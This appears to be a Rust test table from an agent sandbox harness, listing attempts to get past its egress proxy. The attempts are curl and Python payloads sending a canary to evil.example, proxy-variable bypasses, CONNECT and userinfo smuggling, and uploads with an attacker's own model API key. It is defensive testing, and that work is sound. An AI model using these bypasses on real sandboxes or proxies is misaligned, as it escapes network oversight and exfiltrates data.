//! The proxy itself, its variables, and what it forwards.

use deckhand_executors::egress::Phase;

use crate::ground::{Inside, Road};

/// The proxy itself, its variables, and what it forwards.
pub const ROWS: &[Inside] = &[
    Inside {
        id: "net-proxy-variables",
        tries: "Ignore the proxy by its own variables: NO_PROXY for everything, or none set.",
        script: r#"NO_PROXY='*' no_proxy='*' curl -s -m 3 "http://$HOST:$PORT/$CANARY"; one=$?
env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -s -m 3 "http://$HOST:$PORT/$CANARY"
echo "tried: curl ended with $one and $?""#,
        ..Inside::OUT
    },
    Inside {
        id: "net-other-proxy",
        tries: "Use another proxy: the host's address as an HTTP or SOCKS proxy, and one behind the real one.",
        script: r#"curl -s -m 3 -x "http://$HOST:$PORT" "http://evil.example/$CANARY"; one=$?
curl -s -m 3 --socks5-hostname "$HOST:$PORT" "http://evil.example/$CANARY"; two=$?
curl -s -m 3 --preproxy "http://127.0.0.1:3128" -x "http://proxy.evil.example:8080" "http://evil.example/$CANARY"
echo "tried: curl ended with $one, $two and $?""#,
        ..Inside::OUT
    },
    Inside {
        id: "net-proxy-socket",
        tries: "Speak to the proxy's socket without the shim, with a forged line about who asks.",
        script: python!(
            r#"
ask = f"GET http://evil.example/{canary} HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
for start in ["", "DECKHAND-CLIENT curl\r\n", "DECKHAND-CLIENT a\r\nDECKHAND-CLIENT b\r\n", "DECKHAND-CLIENT " + "x" * 5000 + "\r\n"]:
    quietly(lambda: unix("/run/deckhand/egress.sock", start + ask))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-connect-odd-ports",
        tries: "Ask for tunnels to ports where no web server listens.",
        script: python!(
            r#"
for at in [22, 25, 53, 465, 587, 853, 3306, 5432, 6667, 8443, 9418, 0, 65535]:
    quietly(lambda: proxy(f"CONNECT evil.example:{at} HTTP/1.1\r\nHost: evil.example:{at}\r\n\r\n{canary}"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-connect-userinfo",
        tries: "Hide the real host behind a name and password in a CONNECT or an address.",
        script: python!(
            r#"
for target in ["packages.example:443@evil.example:443", "packages.example@evil.example:443", "evil.example:443#packages.example", "packages.example%00.evil.example:443", "packages.example\\@evil.example:443"]:
    quietly(lambda: proxy(f"CONNECT {target} HTTP/1.1\r\nHost: packages.example:443\r\n\r\n{canary}"))
    quietly(lambda: proxy(f"GET http://{target}/{canary} HTTP/1.1\r\nHost: packages.example\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-other-schemes",
        tries: "Ask the proxy for addresses of other schemes than http.",
        script: python!(
            r#"
for scheme in ["https", "ftp", "gopher", "ws", "file", "HTTP+unix", "dict"]:
    quietly(lambda: proxy(f"GET {scheme}://evil.example/{canary} HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-own-model-key",
        tries: "Use the model provider with a key of the attacker's own, whose account the attacker reads.",
        script: python!(
            r#"
body = json.dumps({"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": "x"}]})
for header in ["x-api-key", "authorization", "proxy-authorization", "cookie", "x-goog-api-key", "api-key", "x-auth-token"]:
    quietly(lambda: proxy(f"POST /anthropic/v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n{header}: {canary}\r\ncontent-type: application/json\r\ncontent-length: {len(body)}\r\nConnection: close\r\n\r\n{body}"))
for query in ["key", "api_key", "access_token"]:
    quietly(lambda: proxy(f"POST /anthropic/v1/messages?{query}={canary} HTTP/1.1\r\nHost: 127.0.0.1:3128\r\ncontent-length: {len(body)}\r\nConnection: close\r\n\r\n{body}"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-model-files",
        tries: "Leave a file with the model provider, by the addresses where it keeps files, batches and skills.",
        script: python!(
            r#"
for path in ["v1/files", "v1/uploads", "v1/messages/batches", "v1/batches", "v1/vector_stores", "v1/fine_tuning/jobs", "v1/skills", "v1/organizations/api_keys", "upload/v1beta/files", "v1beta/cachedContents", "v1/messages/../files", "v1/messages/%2e%2e/files", "v1//files", "v1/Files"]:
    quietly(lambda: proxy(f"POST /anthropic/{path} HTTP/1.1\r\nHost: 127.0.0.1:3128\r\ncontent-type: application/octet-stream\r\ncontent-length: {len(canary)}\r\nConnection: close\r\n\r\n{canary}"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-after-cancel",
        tries: "Ask the model and the web after the run was cancelled.",
        script: python!(
            r#"
ask = f"POST /anthropic/v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\ncontent-length: {len(canary)}\r\nConnection: close\r\n\r\n{canary}"
quietly(lambda: proxy(ask))
quietly(lambda: proxy(ask.replace("Host", "x-api-key: " + os.environ["OWN_KEY"] + "\r\nHost", 1)))
quietly(lambda: unix("/run/deckhand/egress.sock", ask))
quietly(lambda: proxy(f"GET http://packages.example/simple/{canary} HTTP/1.1\r\nHost: packages.example\r\nConnection: close\r\n\r\n"))"#
        ),
        road: Road::Revoked,
        ..Inside::OUT
    },
    Inside {
        id: "net-proxy-dead",
        tries: "Go out while the proxy is dead.",
        script: python!(
            r#"
ask = f"POST /anthropic/v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\ncontent-length: {len(canary)}\r\nConnection: close\r\n\r\n{canary}"
quietly(lambda: proxy(ask))
quietly(lambda: unix("/run/deckhand/egress.sock", ask))
quietly(lambda: tcp(gateway, port, canary))"#
        ),
        road: Road::Dead,
        ..Inside::OUT
    },
    Inside {
        id: "net-model-in-setup",
        tries: "Ask the model in the setup, where nobody counts its spend.",
        script: MODEL_CALL,
        road: Road::House(Phase::Setup),
        ..Inside::OUT
    },
    Inside {
        id: "net-model-in-proof",
        tries: "Ask the model in the proof, where only commands may decide.",
        script: MODEL_CALL,
        road: Road::House(Phase::Proof),
        ..Inside::OUT
    },
];

const MODEL_CALL: &str = python!(
    r#"
quietly(lambda: proxy(f"POST /anthropic/v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\ncontent-length: {len(canary)}\r\nConnection: close\r\n\r\n{canary}"))"#
);
